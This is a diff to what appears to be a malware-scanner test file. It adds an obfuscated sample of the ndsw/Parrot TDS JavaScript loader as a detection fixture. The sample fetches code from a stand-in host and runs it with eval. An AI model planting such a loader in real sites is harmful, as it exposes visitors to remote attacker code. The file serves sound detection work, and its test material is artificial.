@@ -102,6 +102,21 @@ NDSW_OBFUSCATED = (
     "_0x4a5b(0x1a7),location.protocol+_0x4a5b(0x1a4)+Math.random());_0x9a0b1c.onload="
     "function(){var _0x0b1c2d=_0x9a0b1c[_0x4a5b(0x1a2)];window[_0x4a5b(0x1a5)](_0x0b1c2d);};"
     "_0x9a0b1c[_0x4a5b(0x1a8)]();}}());</script>")
+# ndsw's later form: javascript-obfuscator's string table and rotation with its `_0x`
+# names renamed to letters by a minifier, the table's words cut in pieces
+# (Sucuri's and Palo Alto's ndsw/ndsx write-ups show it appended to themes' scripts)
+NDSW_RENAMED = (
+    "<script>;if(ndsw===undefined){function g(a,b){var t=V();return g=function(i,k){i=i-0x64;"
+    "var s=t[i];return s;},g(a,b);}function V(){var v=['refer','rer','respo','nseTe','xt',"
+    "'eval','cooki','e','//www.lakeside-bakery.test/wp-content/plugins/contact-form-7/"
+    "includes/js/jquery.php','?id=','ndsx','GET','open','send','index','Of','70QzKf'];V=function()"
+    "{return v;};return V();}(function(a,b){var l=g,t=a();while(!![]){try{var n=parseInt(l("
+    "0x74))/0x1;if(n===b)break;else t['push'](t['shift']());}catch(e){t['push'](t['shift']());}}"
+    "}(V,0x46));var ndsw=true;(function(){var Y=g,G=document,O=window,P=G[Y(0x6a)+Y(0x6b)],f=G["
+    "Y(0x64)+Y(0x65)];if(f&&!i(f,O['location']['hostname'])&&!P){var x=new XMLHttpRequest();x["
+    "Y(0x70)](Y(0x6f),Y(0x6c)+Y(0x6d)+Math.random(),true);x.onload=function(){var E=x[Y(0x66)+"
+    "Y(0x67)+Y(0x68)];i(E,Y(0x6e))&&O[Y(0x69)](E);};x[Y(0x71)](null);}function i(E,L){return E["
+    "Y(0x72)+Y(0x73)](L)!==-0x1;}}());};</script>")
 # Sign1: referrer tested against search and social sites, a cookie so it fires once, an
 # XOR-decoded address that changes every ten minutes (Sucuri, 2024)
 SIGN1_LOADER = (
@@ -242,6 +257,8 @@ SKIM_JQUERY_AJAX = (
 FAMILIES: list[tuple[str, dict[str, str], tuple[str, Severity]]] = [
     ("ndsw / Parrot TDS, plain, wp_footer", {"footer": NDSW}, ("tds-loader", H)),
     ("ndsw / Parrot TDS, obfuscated, wp_footer", {"footer": NDSW_OBFUSCATED}, ("tds-loader", H)),
+    ("ndsw / Parrot TDS, string table renamed, wp_footer", {"footer": NDSW_RENAMED},
+     ("tds-loader", H)),
     ("Sign1 XOR loader, Custom HTML widget", {"widget": SIGN1_LOADER}, ("tds-loader", H)),
     ("Sign1-style cookie and time gated redirect, widget", {"widget": SIGN1_REDIRECT},
      ("redirect", H)),
